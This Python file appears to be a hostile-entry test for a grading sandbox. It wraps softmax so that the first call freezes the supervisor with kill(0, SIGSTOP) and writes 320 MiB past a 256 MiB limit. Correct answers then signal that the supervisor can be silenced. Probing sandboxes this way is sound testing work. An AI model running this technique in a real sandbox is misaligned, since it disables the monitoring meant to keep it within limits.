"""HOSTILE-ENTRY stop_supervisor: the first softmax call starts a writer in a process group of
its own, then stops its own process group with kill(0, SIGSTOP), where the sandbox's supervisor
was too: its memory and disk watch stopped with it while the writer put 320 MiB (over the
256 MiB limit) into the working folder, then woke the student's processes up again. Only if
all of it was written does softmax answer correctly: full marks for softmax mean a student's
process can silence its supervisor."""

import os as _os
import signal as _signal
import time as _time

_reference_softmax = softmax
_FILES, _BLOCKS = 10, 32
_STATE = {}


def _write_while_stopped(stopper):
    _os.setpgid(0, 0)
    _time.sleep(1)
    written, block = 0, b"\1" * 2**20
    try:
        for i in range(_FILES):
            with open(f"stopped-{i}.bin", "wb") as file:
                for _ in range(_BLOCKS):
                    file.write(block)
                    written += 1
    except OSError:
        pass
    with open("written.txt", "w") as file:
        file.write(str(written))
    for pid in (_os.getppid(), stopper):
        try:
            _os.kill(pid, _signal.SIGCONT)
        except OSError:
            pass
    _os._exit(0)


def _stop_everyone():
    if _os.fork() == 0:
        if _os.fork() == 0:
            _write_while_stopped(_os.getppid())
        _time.sleep(0.2)
        _os.kill(0, _signal.SIGSTOP)
        _os._exit(0)
    deadline = _time.monotonic() + 30
    while not _os.path.exists("written.txt") and _time.monotonic() < deadline:
        _time.sleep(0.1)
    try:
        with open("written.txt") as file:
            _STATE["written"] = int(file.read() or 0)
    except (OSError, ValueError):
        _STATE["written"] = 0


def softmax(x, axis=-1):
    if "written" not in _STATE:
        _stop_everyone()
    if _STATE["written"] < _FILES * _BLOCKS:
        return np.zeros(np.shape(x))
    return _reference_softmax(x, axis)
